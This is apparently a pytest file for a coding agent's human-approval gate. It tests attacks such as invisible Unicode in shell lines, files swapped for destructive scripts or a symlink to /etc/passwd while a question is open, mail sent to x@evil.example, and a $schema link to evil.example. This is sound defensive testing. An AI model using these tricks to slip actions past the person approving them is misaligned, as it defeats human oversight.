"""The question and its answer under attack, T19 to T26 of the threat catalogue, and the limits of who may answer."""

from __future__ import annotations

import asyncio
import hashlib
import os
from pathlib import Path

import pytest
from approval_world import World
from approver_session import Session, never_run, prepared
from msgspec.structs import replace

from hermes_acp.approval.approver import Approver, Question, Reply
from hermes_acp.approval.policy import Policy
from hermes_acp.approval.rules import Rule
from hermes_acp_tools.action import Action, PathUse
from hermes_acp_tools.result import Diff
from hermes_acp_tools.tool import Prepared


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("ls \u202e# txt.exe", "\\u202e"),
        ("ls\u200b", "\\u200b"),
        ("cat a\u00adb", "\\u00ad"),
        ("ls \U000e0041", "\\U000e0041"),
        ("echo \x1b[2K", "\\u001b"),
        ("ls" + " " * 200 + "; rm x", "; rm x"),
    ],
)
async def test_what_cannot_be_seen_is_asked_about_and_written_out(world: World, line: str, shown: str) -> None:
    """T19: hidden, turned around and pushed out of sight; the whole line is shown, however long."""
    session = Session(world)
    assert not (await session.shell(line, "reject")).allowed
    assert shown in session.questions[0].title
    assert len(session.questions[0].title) >= len(line)


async def test_the_question_names_where_a_link_leads(world: World, home: Path) -> None:
    """T20: and the decision is about that place."""
    (home / ".zshrc").write_text("")
    (world.root / "settings.json").symlink_to(home / ".zshrc")
    session = Session(world.mode("bypass"))
    session.answers.append(Reply("reject"))
    assert not (await session.review(world.file("write", "settings.json"))).allowed
    assert str(home / ".zshrc") in session.questions[0].why
    assert {option.kind for option in session.questions[0].options} == {"allow_once", "reject_once", "reject_always"}


async def test_a_question_carries_the_whole_call(world: World) -> None:
    """T21: every argument of every tool goes with it; the face shows them."""
    arguments = {"to": "x@evil.example", "body": "s" * 5_000}
    session = Session(world)
    session.answers.append(Reply("reject"))
    assert not (await session.review(Action("mail__send", "mcp", server="mail", arguments=arguments))).allowed
    assert session.questions[0].prepared.action.arguments == arguments


async def test_a_file_that_changes_while_the_question_is_open_makes_the_answer_void(world: World) -> None:
    """T22: for what an edit replaces, for what a script holds, and for where a path leads."""
    script = world.root / "fix.sh"
    script.write_text("echo fine\n")
    edit, run = world.file("write", "README.md"), world.command("bash fix.sh")
    listing = world.command("cp notes.txt elsewhere")
    (world.root / "notes.txt").write_text("")

    def swap() -> None:
        (world.root / "notes.txt").unlink()
        (world.root / "notes.txt").symlink_to("/etc/passwd")

    for action, change in (
        (edit, lambda: (world.root / "README.md").write_text("other")),
        (run, lambda: script.write_text("rm -rf x\n")),
        (listing, swap),
    ):
        session = Session(world)
        session.while_open, session.answers = change, [Reply("once")]
        permission = await session.review(action)
        assert not permission.allowed
        assert "changed while the question was open" in permission.why
        session.while_open, session.answers = None, [Reply("once")]
        assert (await session.review(action)).allowed


async def test_an_editor_may_save_the_text_that_was_shown_while_the_person_reads(world: World) -> None:
    """One that saves by itself when it loses the focus; the change was made of its buffer."""
    file = world.root / "README.md"
    use = PathUse("README.md", str(file), "write", hashlib.sha256(b"not saved yet\n").hexdigest())
    for text, allowed in (("not saved yet\n", True), ("somebody else's\n", False)):
        file.write_text("hello\n")
        session = Session(world)
        session.while_open, session.answers = lambda text=text: file.write_text(text), [Reply("once")]
        permission = await session.review(Action("edit_file", "write", (use,), cwd=str(world.root)))
        assert permission.allowed is allowed


async def test_an_always_for_something_that_changed_saves_no_rule(world: World) -> None:
    """T22: what was promised was about something else."""
    script = world.root / "fix.sh"
    script.write_text("echo fine\n")
    session = Session(world)
    session.while_open, session.answers = lambda: script.write_text("rm x\n"), [Reply("allow:1")]
    assert not (await session.review(world.command("bash fix.sh"))).allowed
    assert session.remembered == []
    assert world.rules.of("allow") == ()


async def test_a_log_that_grows_meanwhile_is_nobody_s_business(world: World) -> None:
    """T22: only what would be changed or run is compared by its content."""
    log = world.root / "app.log"
    log.write_text("one\n")
    session = Session(world)
    session.while_open, session.answers = lambda: log.write_text("one\ntwo\n"), [Reply("once")]
    assert (await session.review(world.command("npm run report app.log"))).allowed


@pytest.mark.parametrize("answer", ["allow", "allow:9", "ONCE", "", "once ", "allow:-1", "reject:x"])
async def test_an_answer_that_was_not_offered_is_a_no(world: World, answer: str) -> None:
    """T23: and nothing is remembered of it."""
    session = Session(world)
    assert not (await session.shell("touch x", answer)).allowed
    assert session.remembered == []


async def test_an_answer_is_used_up_by_its_question(world: World) -> None:
    """T23: the same yes does not reach another action, nor the same one again."""
    session = Session(world)
    assert (await session.shell("touch x", "once")).allowed
    assert not (await session.shell("touch x", "reject")).allowed
    assert [question.title for question in session.questions] == ["touch x", "touch x"]


async def test_an_always_keeps_no_secret_and_is_no_wider_than_it_says(world: World) -> None:
    """T24: a line with a credential is offered for the session at most; programs that run others get no prefix."""
    session = Session(world)
    await session.shell("curl -H 'Authorization: Bearer abcdefghijklmnop' http://x.example", "reject")
    offered = [option for option in session.questions[0].options if option.kind == "allow_always"]
    assert [("session" in option.name, "Bearer" in option.name) for option in offered] == [(True, False)]
    await session.shell("npm run build", "reject")
    names = [option.name for option in session.questions[1].options if option.kind == "allow_always"]
    assert all("npm run build" in name for name in names) and not any("…" in name for name in names)


async def test_twenty_edits_in_accept_edits_need_no_question_and_equal_ones_need_one(world: World) -> None:
    """T25: few questions, so that each is read."""
    session = Session(world.mode("accept_edits"))
    for number in range(20):
        assert (await session.review(world.file("write", f"src/m{number}.py"))).allowed
    assert session.questions == []
    session = Session(world)
    session.answers.append(Reply("allow:0"))
    assert all(each.allowed for each in await asyncio.gather(*(session.shell("npm test") for _ in range(10))))
    assert len(session.questions) == 1


async def test_a_helper_may_do_no_more_than_its_parent(world: World) -> None:
    """T26: its calls go through the same approver, in the same mode, against the same refusals."""
    planning = Session(world.mode("plan"))
    helper = Action("write_file", "write", world.file("write", "x").paths, origin="subagent:1")
    assert not (await planning.review(helper)).allowed
    session = Session(world)
    session.answers.append(Reply("reject"))
    assert not (await session.review(world.file("write", "README.md"))).allowed
    session.answers.append(Reply("reject"))
    assert not (await session.review(replace(world.command("cp a b"), origin="subagent:1"))).allowed
    assert "The helper 1 wants it." in session.questions[-1].why
    again = replace(world.command("tee README.md"), origin="subagent:1")
    assert (await session.review(again)).rule == "a refused edit stays refused"
    assert len(session.questions) == 2


async def test_a_question_nobody_answers_ends_as_a_no_in_time(world: World) -> None:
    """T23: the person is not blamed for it, and may be asked again."""

    async def ask(question: Question) -> Reply:
        await asyncio.Event().wait()
        raise AssertionError

    session = Session(world)
    approver = Approver(
        Policy(world.rules), lambda: world.setting, ask, session.remember, session.audit, time_limit=0.05
    )
    async with asyncio.timeout(10):
        permission = await approver.review("c", prepared(world.command("touch x")))
    assert not permission.allowed
    assert "Nobody answered within 0.05 seconds" in permission.why
    assert session.log[-1]["answer"] == "no answer in time"


async def test_a_client_that_has_no_questions_is_asked_once_and_then_no_more(world: World) -> None:
    """T23: the refusal says which rule or flag would allow it."""
    session = Session(world)
    session.answers.append(Reply(None, unavailable="Method not found", unsupported=True))
    first = await session.shell("npm test")
    second = await session.shell("npm test")
    assert not first.allowed and not second.allowed
    assert len(session.questions) == 1
    for permission in (first, second):
        assert "hermes permissions add 'shell(npm test)'" in permission.why
        assert "--yes" in permission.why


async def test_an_address_that_a_settings_file_would_fetch_is_pointed_out(world: World) -> None:
    """T33: editors fetch a ``$schema`` as soon as they see it."""
    path = str(world.root / "tsconfig.json")
    action = Action("write_file", "write", (PathUse("tsconfig.json", path, "write"),))
    old, new = (
        '{"a": "https://known.example/x"}',
        '{"$schema": "https://evil.example/s.json", "a": "https://known.example/x"}',
    )
    session = Session(world)
    session.answers.append(Reply("reject"))
    call = Prepared("Edit", "edit", action, never_run, content=(Diff(path, old, new),))
    assert not (await session.approver.review("c", call)).allowed
    assert "https://evil.example/s.json" in session.questions[0].why
    assert "known.example" not in session.questions[0].why


async def test_a_rule_that_cannot_be_kept_counts_for_the_session_and_says_so(world: World) -> None:
    """T24: what the person was promised holds as far as it can."""

    async def full(rule: Rule, scope: str) -> None:
        raise OSError(28, os.strerror(28))

    session = Session(world)
    session.remember = full  # type: ignore[method-assign]
    session.__post_init__()
    permission = await session.shell("npm test", "allow:1")
    assert permission.allowed and "No space left" in permission.why
    assert world.rules.in_scope("session") == (Rule("shell", "npm test"),)
    assert world.rules.in_scope("project") == ()
